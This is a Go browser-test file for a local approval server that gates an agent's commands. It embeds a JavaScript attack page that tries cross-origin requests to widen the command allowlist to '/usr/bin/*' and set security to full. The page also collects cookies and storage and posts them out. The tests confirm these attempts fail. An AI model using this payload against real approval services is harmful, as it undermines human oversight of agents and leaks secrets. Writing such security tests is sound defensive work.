package web

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/exechost/exechost/internal/prompt"
)

// recorder is a second loopback server — a dev server an agent started,
// say — that records everything the browser sends it and serves a page
// that attacks the approver from its own origin.
type recorder struct {
	srv  *httptest.Server
	mu   sync.Mutex
	seen []string // one dump per request: method, URL, headers, body
}

func startRecorder(t *testing.T, approverAddr string) *recorder {
	t.Helper()
	rec := &recorder{}
	// The attack: read the approver's queue and add /usr/bin/* to its
	// allowlist and security=full, with whatever the browser attaches by
	// itself; then report what it got (to this server, so the test sees it).
	attack := fmt.Sprintf(`<!doctype html><html><body><script>
(async () => {
  const a = "http://%s/";
  const out = {};
  const tryit = async (name, path, opts) => {
    try { const r = await fetch(a + path, Object.assign({credentials: "include", mode: "no-cors"}, opts)); out[name] = r.type + ":" + r.status; }
    catch (e) { out[name] = "error"; }
  };
  await tryit("pending", "api/pending", {});
  await tryit("allow", "api/allowlist", {method: "POST", headers: {"Content-Type": "text/plain"}, body: JSON.stringify({agent: "*", op: "add", pattern: "/usr/bin/*"})});
  await tryit("full", "api/agent", {method: "POST", headers: {"Content-Type": "text/plain"}, body: JSON.stringify({agent: "*", security: "full"})});
  out.storage = JSON.stringify(Object.assign({}, sessionStorage)) + JSON.stringify(Object.assign({}, localStorage));
  out.cookie = document.cookie;
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
  document.body.dataset.done = "true";
})();
</script><img src="/pixel.png"></body></html>`, approverAddr)
	rec.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		var b strings.Builder
		fmt.Fprintf(&b, "%s %s\n", r.Method, r.URL.String())
		for k, vs := range r.Header {
			fmt.Fprintf(&b, "%s: %s\n", k, strings.Join(vs, ", "))
		}
		b.Write(body)
		rec.mu.Lock()
		rec.seen = append(rec.seen, b.String())
		rec.mu.Unlock()
		if r.URL.Path == "/" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, attack)
		}
	}))
	t.Cleanup(rec.srv.Close)
	return rec
}

func (rec *recorder) dump() string {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return strings.Join(rec.seen, "\n----\n")
}

// TestBrowserSecretNeverLeavesItsOrigin: a browser that has the approver
// open then visits another local server. That server must receive nothing
// of the secret (no cookie, no Referer, nothing in storage it can read),
// and its page's requests to the approver — which carry only what the
// browser attaches by itself — change nothing. A curl-style request with
// every browser header but the secret header is refused.
func TestBrowserSecretNeverLeavesItsOrigin(t *testing.T) {
	ctx := browser(t)
	f := startFixture(t, nil)
	u, err := url.Parse(f.url)
	if err != nil {
		t.Fatal(err)
	}
	secret := strings.TrimPrefix(u.Fragment, SecretParam+"=")
	if secret == "" || u.RawQuery != "" {
		t.Fatalf("approver URL %q: want the secret in the fragment only", f.url)
	}
	before := f.load(t).Hash()
	ch, _ := f.submit(t, "p-leak-1111", promptReq("main", "git status", allChoices...))

	run(t, ctx, chromedp.Navigate(f.url), chromedp.WaitVisible(chromedp.CSS(`article[data-id="p-leak-1111"]`)))
	loc, err := chromedp.Run(ctx, chromedp.Location())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(loc, secret) {
		t.Errorf("the secret stayed in the address bar: %s", loc)
	}

	rec := startRecorder(t, u.Host)
	run(t, ctx, chromedp.Navigate(rec.srv.URL+"/"), chromedp.WaitVisible(chromedp.CSS(`body[data-done="true"]`)))
	seen := rec.dump()
	if !strings.Contains(seen, "POST /report") {
		t.Fatalf("the attack page did not report:\n%s", seen)
	}
	if strings.Contains(seen, secret) {
		t.Fatalf("the secret reached the other local server:\n%s", seen)
	}
	if strings.Contains(strings.ToLower(seen), "\ncookie:") {
		t.Errorf("the browser sent a cookie to the other local server:\n%s", seen)
	}

	// Nothing changed: the file, and the prompt is still pending.
	if after := f.load(t).Hash(); after != before {
		t.Errorf("the approvals file changed under the attack page: %v", patterns(f.load(t), "*"))
	}
	select {
	case r := <-ch:
		t.Fatalf("the prompt was answered by the attack page: %+v", r)
	default:
	}

	// curl with everything a browser could send by itself, but not the
	// secret header.
	for _, c := range []struct{ method, path, body string }{
		{"GET", "api/pending", ""},
		{"POST", "api/session", ""},
		{"POST", "api/decide", `{"id":"p-leak-1111","decision":"allow-once"}`},
		{"POST", "api/allowlist", `{"agent":"*","op":"add","pattern":"/usr/bin/*"}`},
	} {
		req, _ := http.NewRequest(c.method, "http://"+u.Host+"/"+c.path, strings.NewReader(c.body))
		req.Header.Set("Origin", "http://"+u.Host)
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Sec-Fetch-Site", "same-origin")
		req.AddCookie(&http.Cookie{Name: "exechost_web_" + u.Port(), Value: secret})
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != http.StatusForbidden {
			t.Errorf("%s %s without the secret header: status %d, want 403", c.method, c.path, res.StatusCode)
		}
	}
	if len(f.broker.List()) != 1 {
		t.Errorf("pending prompts = %d, want the one prompt still pending", len(f.broker.List()))
	}
}

// TestBrowserStaleBanner: after the approver stops, an open tab says it
// cannot reach it; after a restart (new secret) it says the approver
// restarted and to open the new URL — and never "No pending approvals",
// although the new approver has a prompt pending.
func TestBrowserStaleBanner(t *testing.T) {
	ctx := browser(t)
	actx, stopA := context.WithCancel(context.Background())
	t.Cleanup(stopA)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	first, err := Start(actx, Options{Addr: addr, Broker: prompt.NewBroker(), Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	run(t, ctx, chromedp.Navigate(first), chromedp.WaitVisible(chromedp.CSS(`#pending-empty`)))

	stopA()
	run(t, ctx, chromedp.WaitVisible(chromedp.CSS(`body[data-stale="unreachable"] #stale`)),
		chromedp.WaitNotVisible(chromedp.CSS(`#pending-empty`)))
	text, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS("#stale-text")))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text, "Cannot reach the approver") {
		t.Errorf("unreachable banner = %q", text)
	}

	// The approver comes back on the same port with a new secret and a
	// pending prompt.
	bctx, stopB := context.WithCancel(context.Background())
	t.Cleanup(stopB)
	b := prompt.NewBroker()
	second, err := Start(bctx, Options{Addr: addr, Broker: b, Logf: t.Logf})
	if err != nil {
		t.Fatalf("restart on %s: %v", addr, err)
	}
	pctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	go b.Submit(pctx, prompt.Pending{ID: "p-new-1", Request: promptReq("main", "make test", allChoices...)})

	run(t, ctx, chromedp.WaitVisible(chromedp.CSS(`body[data-stale="restarted"] #stale`)))
	text, err = chromedp.Run(ctx, chromedp.Text(chromedp.CSS("#stale-text")))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text, "approver restarted") || !strings.Contains(text, "open the new URL") {
		t.Errorf("restart banner = %q", text)
	}
	visible, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`!document.getElementById("pending-empty").hidden`))
	if err != nil {
		t.Fatal(err)
	}
	if visible {
		t.Error(`a stale page claims "No pending approvals" while a prompt is pending`)
	}
	screenshot(t, ctx, "-stale")

	// Opening the new URL in the same tab (only the fragment differs, so
	// no navigation happens by itself) brings the page back, live.
	run(t, ctx, chromedp.Navigate(second),
		chromedp.WaitVisible(chromedp.CSS(`article[data-id="p-new-1"]`)))
	stale, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.dataset.stale || ""`))
	if err != nil {
		t.Fatal(err)
	}
	if stale != "" {
		t.Errorf("page still marked stale (%q) after opening the new URL", stale)
	}
}
